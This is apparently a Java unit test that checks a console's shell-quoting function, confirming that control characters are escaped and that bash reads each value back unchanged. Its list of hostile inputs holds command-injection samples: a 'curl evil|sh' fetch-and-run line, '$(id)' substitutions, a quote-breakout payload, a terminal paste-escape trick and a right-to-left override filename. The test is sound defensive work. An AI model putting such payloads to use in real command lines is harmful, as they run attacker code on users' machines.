package io.waybill.console.web;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.waybill.console.api.Action;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;

/** Values in command lines that people paste into a shell. {@link ConsolePagesTest} asks the pages for the same. */
class QuotedTest {

    private static final Path BASH = Path.of("/bin/bash");

    static final List<String> HOSTILE = List.of(
            "",
            "order-4711",
            "failed,running",
            "{a,b}",
            "#",
            "a#b",
            "it's",
            "$(id) `id` \"$HOME\" ! ~ * \\",
            "\\n",
            "a\u0003\ncurl evil|sh\n",
            "it's\\'\u0003'; id #",
            "\u001b[201~\nid\n",
            "tab\tcr\rdel\u007f",
            "\u0080\u009b31m\u009f\u00a0",
            "1\u00072 \u000b3",
            "Grüße 漢字 😀\n",
            "\u202Egnp.exe\u2066",
            "{\n  \"a\": 'b'\n}");

    @Test
    void no_control_character_reaches_a_terminal_and_no_comment_begins() {
        for (String value : HOSTILE) {
            assertThat(Action.quoted(value).chars()).as(value).noneMatch(Character::isISOControl);
        }
        assertThat(Action.quoted("order-4711")).isEqualTo("order-4711");
        assertThat(Action.quoted("#1")).isEqualTo("'#1'");
        assertThat(Action.quoted("a\u0003\nb")).isEqualTo("$'a\\003\\012b'");
        assertThat(Action.quoted("a\u0000b")).isEqualTo("'a\ufffdb'");
    }

    @Test
    void a_shell_reads_the_value_itself() throws Exception {
        Assumptions.assumeTrue(Files.isExecutable(BASH), "NOT TESTED: quoted values, because there is no /bin/bash.");
        for (String value : HOSTILE) {
            assertThat(evaluated(Action.quoted(value))).as(value).isEqualTo(value);
        }
    }

    private static String evaluated(String quoted) throws IOException, InterruptedException {
        Path script = Files.createTempFile("quoted", ".sh");
        try {
            Files.writeString(script, "printf %s " + quoted + "\n");
            Process shell = new ProcessBuilder(BASH.toString(), script.toString()).start();
            String said = new String(shell.getInputStream().readAllBytes(), UTF_8);
            assertThat(shell.waitFor()).isZero();
            return said;
        } finally {
            Files.delete(script);
        }
    }
}
